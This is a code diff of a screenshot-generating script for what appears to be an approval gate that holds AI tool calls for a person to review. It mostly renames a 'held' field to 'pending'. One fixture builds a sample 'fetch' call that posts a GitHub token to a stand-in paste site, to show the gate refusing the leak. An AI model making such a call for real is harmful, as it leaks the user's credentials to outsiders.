@@ -58,7 +58,7 @@ class SampleGate:
     approve_all = cancel_authentication = _ignore
 
     async def widths(self, call_id: str, edited: str | None = None) -> tuple[RuleWidth, ...]:
-        held = next((each for each in self.snapshot().held if each.call.id == call_id), None)
+        held = next((each for each in self.snapshot().pending if each.call.id == call_id), None)
         if held is None:
             return ()
         return widths(held.call.arguments if edited is None else json.loads(edited), None, LOCAL_FILE_SYSTEM)
@@ -145,7 +145,7 @@ async def deferred_calls(window: main.MainWindow, guard: SampleGate, save: Save)
     save(window, "pending-kept")
     pending.choose(f"{3:016x}")
     snapshot = sample_calls.deferred()
-    guard.show(msgspec.structs.replace(snapshot, held=snapshot.held[1:]))
+    guard.show(msgspec.structs.replace(snapshot, pending=snapshot.pending[1:]))
     await settle()
     withdrawn = model.CallWithdrawn(
         call="c",
@@ -155,11 +155,11 @@ async def deferred_calls(window: main.MainWindow, guard: SampleGate, save: Save)
         tool="create_pull_request",
         reason="timed out after 60 s",
     )
-    pending.call.show_gone(how_it_ended(withdrawn))
+    pending.call.show_withdrawn(how_it_ended(withdrawn))
     pending.call.decision.offer_next()
     await settle(0.6)
     save(window, "pending-given-up")
-    guard.show(msgspec.structs.replace(snapshot, held=()))
+    guard.show(msgspec.structs.replace(snapshot, pending=()))
     pending.choose("")
     await settle(0.3)
     save(window, "pending-only-kept")
@@ -242,7 +242,7 @@ async def leaked_secrets(window: main.MainWindow, guard: SampleGate, save: Save)
     pending = window.stack.page("pending")
     whole = sample_calls.full_snapshot()
     secret = ("github-token",)
-    first = whole.held[0]
+    first = whole.pending[0]
     arguments = {"url": "https://paste.example/new", "text": "my token is [secret github-token], keep it"}
     message = {**first.call.message, "params": {"name": "fetch", "arguments": arguments}}
     call = msgspec.structs.replace(first.call, message=message, tool="fetch")
@@ -258,7 +258,7 @@ async def leaked_secrets(window: main.MainWindow, guard: SampleGate, save: Save)
     guard.show(msgspec.structs.replace(whole, leaked=leaked))
     await settle(0.3)
     save(window, "pending-leak-refused")
-    guard.show(msgspec.structs.replace(whole, held=(held, *whole.held[1:])))
+    guard.show(msgspec.structs.replace(whole, pending=(held, *whole.pending[1:])))
     await settle(0.3)
     pending.choose(call.id)
     await settle(0.8)
@@ -274,7 +274,7 @@ async def authentication(window: main.MainWindow, guard: SampleGate, save: Save)
     """An approval that waits until the person has authenticated."""
     pending = window.stack.page("pending")
     whole = sample_calls.full_snapshot()
-    first = whole.held[0]
+    first = whole.pending[0]
     text = call_prompt([(first.call.tool, first.call.server, first.call.client.id)])
     prompt = AuthenticationPrompt(id="a", text=text, by="polkit")
     guard.show(msgspec.structs.replace(whole, authenticating=(prompt,)))
@@ -292,7 +292,9 @@ async def authentication(window: main.MainWindow, guard: SampleGate, save: Save)
 async def argument_form(window: main.MainWindow, guard: SampleGate, save: Save) -> None:
     """Arguments edited in a form that is made from the tool's schema."""
     pending = window.stack.page("pending")
-    guard.show(msgspec.structs.replace(sample_calls.full_snapshot(), held=(sample_calls.with_schema(),), proposals=()))
+    guard.show(
+        msgspec.structs.replace(sample_calls.full_snapshot(), pending=(sample_calls.with_schema(),), proposals=())
+    )
     await settle(0.4)
     pending.choose(f"{34:016x}")
     pending.call.begin_edit()
@@ -310,7 +312,7 @@ async def bursts(window: main.MainWindow, guard: SampleGate, save: Save) -> None
     whole = sample_calls.full_snapshot()
     for name, mixed in (("pending-burst", False), ("pending-burst-mixed", True)):
         burst = sample_calls.burst(mixed=mixed)
-        guard.show(msgspec.structs.replace(whole, held=(*burst, *whole.held[3:6])))
+        guard.show(msgspec.structs.replace(whole, pending=(*burst, *whole.pending[3:6])))
         await settle(0.4)
         pending.notice.dismiss()
         pending.choose(pending.queue.burst_of(burst[0].call.id))
